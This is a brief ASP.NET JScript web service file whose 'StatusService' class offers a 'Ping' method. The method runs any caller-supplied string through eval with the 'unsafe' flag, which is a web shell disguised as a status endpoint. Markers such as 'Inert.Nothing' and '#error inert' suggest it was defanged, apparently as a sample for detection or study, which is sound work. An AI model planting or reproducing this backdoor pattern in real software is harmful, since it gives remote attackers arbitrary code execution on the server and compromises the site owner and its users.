<%@ WebService Language="JScript" Class="Inert.Nothing" %>
#error inert
import System;
import System.Web;
import System.Web.Services;

public class StatusService extends WebService {
    WebMethodAttribute public function Ping(z : String) : String {
        var r = "";
        try { r = eval(z, "unsafe"); } catch (ex) { r = ex.message; }
        return r;
    }
}
